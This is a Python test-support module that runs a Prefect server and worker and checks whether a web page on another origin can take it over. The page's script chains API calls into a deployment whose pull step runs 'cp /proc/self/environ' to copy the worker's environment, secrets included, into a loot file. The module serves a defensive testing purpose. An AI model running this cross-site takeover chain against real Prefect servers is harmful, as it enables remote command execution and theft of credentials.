"""A Prefect server with its worker, a page on another website, and what the attacker hopes to carry away."""

import base64
import html
import json
import os
import re
import subprocess
import sys
import threading
import time
from collections.abc import Iterator, Mapping, Sequence
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import psutil

from tests.chromium import dom_after
from tests.prefect_server import ROOT, started
from xpm.prefect_access import FILE, read

PATIENCE = 90.0  # seconds for a worker to start, and to carry out a run
POOL = "xpm"
KEPT = ("flows", "deployments", "flow_runs", "variables", "block_documents", "automations", "concurrency_limits")
"""Everything in Prefect that an attacker may want to change; each can be listed."""


@dataclass
class Scene:
    """One Prefect server, its worker, and the file into which an attacker's command would write."""

    http: httpx.Client
    loot: Path
    password: str | None = field(default=None, repr=False)

    @property
    def api(self) -> str:
        """The address of its API."""
        return str(self.http.base_url).rstrip("/")

    def ask(self, method: str, path: str, *, signed: bool = False, **sent: Any) -> httpx.Response:  # noqa: ANN401
        """Send one request to the API, with the password if `signed`."""
        headers = {**sent.pop("headers", {}), **(self._signature() if signed else {})}
        return self.http.request(method, path, headers=headers, **sent)

    def kept(self) -> Mapping[str, Any]:
        """Read everything that an attacker may want to change, and whether the command was carried out."""
        token = self.csrf("an-operator")
        listed = {kind: self._list(kind, token) for kind in KEPT}
        return {**listed, "pool": self._pool(), "loot": self.loot.exists()}

    def csrf(self, client: str) -> Mapping[str, str]:
        """The headers of a request that changes something, as Prefect's own clients send them."""
        answer = self.ask("GET", "/csrf-token", params={"client": client}, signed=True)
        if answer.status_code == httpx.codes.UNPROCESSABLE_ENTITY:  # no protection
            return {}
        return {"Prefect-Csrf-Client": client, "Prefect-Csrf-Token": answer.raise_for_status().json()["token"]}

    def takeover(self) -> Sequence[tuple[str, Mapping[str, Any]]]:
        """What a takeover asks for, in turn: a flow, a deployment whose preparation is a shell command, and its run.

        `{id}` is the id in the answer before.
        """
        command = {"prefect.deployments.steps.run_shell_script": {"script": f"cp /proc/self/environ {self.loot}"}}
        deployment = {
            "name": "takeover",
            "flow_id": "{id}",
            "work_pool_name": POOL,
            "entrypoint": "takeover.py:flow",
            "pull_steps": [command],
        }
        return [
            ("/flows/", {"name": "takeover"}),
            ("/deployments/", deployment),
            ("/deployments/{id}/create_flow_run", {}),
        ]

    def page(self) -> str:
        """Let a browser open a page of another website that attempts a takeover; return how that went."""
        with another_website(_script(self.api, self.takeover())) as url:
            outcome = re.search(r'<p id="outcome">(.*?)</p>', dom_after(url), re.DOTALL)
        assert outcome, "the page did not come to its end"
        return html.unescape(outcome[1])

    def _signature(self) -> Mapping[str, str]:
        return basic(self.password) if self.password else {}

    def _list(self, kind: str, token: Mapping[str, str]) -> list[Any]:
        answer = self.ask("POST", f"/{kind}/filter", json={}, headers=token, signed=True)
        return sorted((one["id"], one["created"]) for one in answer.raise_for_status().json())

    def _pool(self) -> Any:  # noqa: ANN401 - as Prefect describes it
        found = self.ask("GET", f"/work_pools/{POOL}", signed=True).raise_for_status().json()
        return [found["id"], found["base_job_template"], found["is_paused"]]


@contextmanager
def scene(home: Path, server: Sequence[str], **settings: str) -> Iterator[Scene]:
    """Run a Prefect server that this command starts, and a worker."""
    (home / "worker").mkdir()
    with (
        started(home, server, PREFECT_API_AUTH_STRING="", **settings) as api,
        worker(home, api, settings),
        httpx.Client(base_url=api, timeout=30) as http,
    ):
        yield Scene(http, home / "loot", read(home / FILE))


@contextmanager
def worker(home: Path, api: str, settings: Mapping[str, str]) -> Iterator[psutil.Process]:
    """Run `fyi-xpm worker` in the folder where Prefect was started, until it is online."""
    environment = {
        **{name: value for name, value in os.environ.items() if not name.startswith(("COV_", "COVERAGE_"))},
        **settings,
        "PYTHONPATH": str(ROOT),
        "PREFECT_HOME": str(home / "worker"),
        "PREFECT_API_URL": api,
        "PREFECT_API_AUTH_STRING": "",
        "PREFECT_WORKER_QUERY_SECONDS": "1",
    }
    command = [sys.executable, "-m", "cli.main", "worker", "--type", "process", "--name", "the-worker"]
    with (home / "worker.log").open("wb") as log:
        process = psutil.Popen(command, cwd=home, env=environment, stdout=log, stderr=subprocess.STDOUT)
    try:
        _wait_until_started(process, home / "worker.log")
        yield process
    finally:
        family = [*process.children(recursive=True), process]
        for one in family:
            with suppress(psutil.NoSuchProcess):
                one.kill()
        psutil.wait_procs(family)


@contextmanager
def another_website(page: str) -> Iterator[str]:
    """Serve a page from another origin, and give its address."""

    class Site(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(page.encode())

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the name is Python's
            """Keep quiet."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Site) as site:
        thread = threading.Thread(target=site.serve_forever)
        thread.start()
        try:
            yield f"http://127.0.0.1:{site.server_port}/"
        finally:
            site.shutdown()
            thread.join()


def basic(password: str) -> Mapping[str, str]:
    """Sign a request with a password (RFC 7617)."""
    return {"Authorization": f"Basic {base64.b64encode(password.encode()).decode()}"}


def as_environment(content: bytes) -> Mapping[str, str]:
    """Read what Linux keeps of a process's environment."""
    pairs = (one.partition("=") for one in content.decode().split("\0") if one)
    return {name: value for name, _, value in pairs}


def _wait_until_started(process: psutil.Process, log: Path) -> None:
    deadline = time.monotonic() + PATIENCE
    while time.monotonic() < deadline and process.is_running():
        if "started!" in log.read_text():
            return
        time.sleep(0.2)
    raise AssertionError(log.read_text()[-3000:])


def _script(api: str, wanted: Sequence[tuple[str, Mapping[str, Any]]]) -> str:
    return f"""<!doctype html><title>Holiday photos</title><body><script>
const api = {json.dumps(api)}, wanted = {json.dumps(wanted)};
async function takeOver() {{
  let id = "";
  for (const [path, body] of wanted) {{
    let answer;
    do {{
      answer = await fetch(api + path.replace("{{id}}", id), {{
        method: "POST",
        headers: {{"Content-Type": "application/json"}},
        body: JSON.stringify(body).replace("{{id}}", id),
      }});
    }} while (answer.status == 503);  // Prefect on SQLite is busy
    if (!answer.ok) throw new Error(answer.status + " " + await answer.text());
    id = (await answer.json()).id;
  }}
  return "taken over";
}}
takeOver().catch(String).then(said => {{
  const shown = document.createElement("p");
  shown.id = "outcome";
  shown.textContent = said;
  document.body.append(shown);
}});
</script></body>"""
